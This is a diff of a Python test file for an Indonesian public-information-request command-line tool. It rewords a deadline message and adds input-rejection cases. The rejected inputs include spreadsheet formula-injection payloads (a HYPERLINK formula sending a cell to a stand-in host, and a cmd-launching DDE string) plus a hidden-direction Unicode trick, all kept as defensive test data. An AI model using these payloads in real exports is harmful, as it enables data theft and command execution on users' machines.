@@ -694,7 +694,7 @@ def test_a_deadline_passed_on_the_friday_is_overdue_on_the_weekend(run, today):
     late = run.ok("permohonan", "putuskan", "1", "--keputusan", "diberikan",
                   "--tanggal", "2026-05-30", "--tanpa-surat")  # fmt: skip
     # decided on that Saturday: 1 working day late, not "0 hari kerja"
-    assert "melewati tenggat 2026-05-29 (terlambat 1 hari kerja)" in late.stderr
+    assert "melewati tenggat 2026-05-29 (lewat 1 hari kerja)" in late.stderr
     catat(run, day="2026-05-11")
     today("2026-05-29")  # the Friday itself: due today
     (due,) = json.loads(run.ok("jatuh-tempo", "--format", "json").stdout)
@@ -908,6 +908,8 @@ REFUSED_CATAT = [
     (["--nama", "Ali\u202eevil"], "--nama (nama pemohon) memuat karakter tak terlihat"),
     (["--nama", '=HYPERLINK("http://x/?"&D2)'], "diawali '=': itu rumus lembar kerja, bukan nama"),
     (["--kuasa", "@Ani", "--dokumen", "identitas,kuasa"], "--kuasa diawali '@'"),
+    (["--nama", "-2+3+cmd|' /C calc'!A0"], "diawali '-': itu rumus lembar kerja"),
+    (["--nama", "-"], "--nama (nama pemohon) wajib diisi: '-' tidak berisi apa pun"),
     (["--tujuan", "x" * 10_001], "terlalu panjang"),
     (["--tanggal", "2026-11-23"], "ada di masa depan"),
     (["--tahapan", "Kampanye"], "tahapan 'Kampanye' tidak ada di ppidctl.toml"),
